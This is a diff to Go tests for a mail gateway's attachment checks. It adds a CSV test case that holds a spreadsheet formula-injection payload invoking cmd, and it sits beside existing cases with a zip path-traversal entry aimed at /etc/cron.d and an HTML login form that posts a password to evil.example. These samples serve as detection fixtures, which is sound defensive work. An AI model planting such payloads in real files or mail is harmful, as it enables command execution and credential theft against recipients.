@@ -170,6 +170,7 @@ func TestAttachments(t *testing.T) {
 		"a path that leaves":       {check: "archive", files: []string{"d.zip", "application/zip", zipOf(t, "../../etc/cron.d/x", "x")}, reason: gateway.AttachmentPath, args: "x|", outcome: gateway.Quarantine, parts: "[2]"},
 		"a broken archive":         {check: "archive", files: []string{"d.zip", "application/zip", nested[:len(nested)/2]}, reason: gateway.AttachmentBroken, args: "d.zip|zip: ", measures: "broken=", parts: "[2]"},
 		"a picture that is a zip":  {check: "archive", files: []string{"p.gif", "image/gif", "GIF89a\x01\x00\x01\x00\x00\x00\x00" + strings.Repeat("x", 200) + zipOf(t, "a.txt", "x")}, measures: "trailing=", parts: "[]"},
+		"a formula in a table":     {check: "macro", files: []string{"a.csv", "text/csv", "name,value\r\nx,\"=SUM(1,2)*cmd|' /C calc'!A0\"\r\n"}, reason: gateway.AttachmentAutoExec, args: "a.csv|", outcome: gateway.Quarantine, parts: "[2]"},
 		"a form for a password":    {check: "active", files: []string{"login.html", "text/html", "<html><form action=https://evil.example/x><input type=password name=p></form></html>"}, reason: gateway.AttachmentForm, args: "login.html|", outcome: gateway.Quarantine, parts: "[2]"},
 		"script in a page":         {check: "active", files: []string{"a.html", "text/html", "<html><script>document.title='x'</script></html>"}, reason: gateway.AttachmentScript, args: "a.html|", measures: "script=", parts: "[2]"},
 	} {
@@ -271,21 +272,23 @@ func TestUnpackedOnce(t *testing.T) {
 		e     *gateway.Envelope
 		asked int
 	}{
-		"text":               {dataOf(t, with("")), 0},
-		"HTML":               {dataOf(t, strings.TrimSuffix(with("", "MIME-Version: 1.0", "Content-Type: text/html"), "text\r\n")+"<html><script>x</script></html>\r\n"), 0},
-		"a text file":        {carrying(t, "a.txt", "text/plain", "hello"), 0},
-		"a film":             {carrying(t, "a.mp4", "video/mp4", "\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom"), 0},
-		"an empty file":      {carrying(t, "a.zip", "application/zip", ""), 0},
-		"an archive":         {carrying(t, "a.zip", "application/zip", zipOf(t, "a", "b")), 1},
-		"what nobody knows":  {carrying(t, "a.dat", octets, "\x81\x02\x93\x00\xf0\x01\x00\x7e\x00\x03"), 1},
-		"the body is a file": {dataOf(t, strings.TrimSuffix(with("", "MIME-Version: 1.0", "Content-Type: application/zip"), "text\r\n")+zipOf(t, "a", "b")), 1},
-		"a point":            {carrying(t, "a.gif", "image/gif", point), 0},
-		"a point, no name":   {carrying(t, "", "image/gif", point), 0},
-		"a point as a page":  {carrying(t, "a.html", "image/gif", point), 1},
-		"a point as what":    {carrying(t, "a.gif", "text/html", point), 1},
-		"a zip behind it":    {carrying(t, "a.gif", "image/gif", point+zipOf(t, "a", "b")), 1},
-		"a cut one":          {carrying(t, "a.gif", "image/gif", point[:30]), 1},
-		"two":                {carrying(t, "a.zip", "application/zip", zipOf(t, "a", "b"), "b.html", "text/html", "<html>"), 1},
+		"text":                {dataOf(t, with("")), 0},
+		"HTML":                {dataOf(t, strings.TrimSuffix(with("", "MIME-Version: 1.0", "Content-Type: text/html"), "text\r\n")+"<html><script>x</script></html>\r\n"), 0},
+		"a text file":         {carrying(t, "a.txt", "text/plain", "hello"), 0},
+		"a table":             {carrying(t, "a.csv", "text/plain", "1,2\r\n"), 1},
+		"a table by its type": {carrying(t, "a", "text/csv", "1,2\r\n"), 1},
+		"a film":              {carrying(t, "a.mp4", "video/mp4", "\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom"), 0},
+		"an empty file":       {carrying(t, "a.zip", "application/zip", ""), 0},
+		"an archive":          {carrying(t, "a.zip", "application/zip", zipOf(t, "a", "b")), 1},
+		"what nobody knows":   {carrying(t, "a.dat", octets, "\x81\x02\x93\x00\xf0\x01\x00\x7e\x00\x03"), 1},
+		"the body is a file":  {dataOf(t, strings.TrimSuffix(with("", "MIME-Version: 1.0", "Content-Type: application/zip"), "text\r\n")+zipOf(t, "a", "b")), 1},
+		"a point":             {carrying(t, "a.gif", "image/gif", point), 0},
+		"a point, no name":    {carrying(t, "", "image/gif", point), 0},
+		"a point as a page":   {carrying(t, "a.html", "image/gif", point), 1},
+		"a point as what":     {carrying(t, "a.gif", "text/html", point), 1},
+		"a zip behind it":     {carrying(t, "a.gif", "image/gif", point+zipOf(t, "a", "b")), 1},
+		"a cut one":           {carrying(t, "a.gif", "image/gif", point[:30]), 1},
+		"two":                 {carrying(t, "a.zip", "application/zip", zipOf(t, "a", "b"), "b.html", "text/html", "<html>"), 1},
 	} {
 		h := &here{}
 		d := &Deps{Unpack: h}
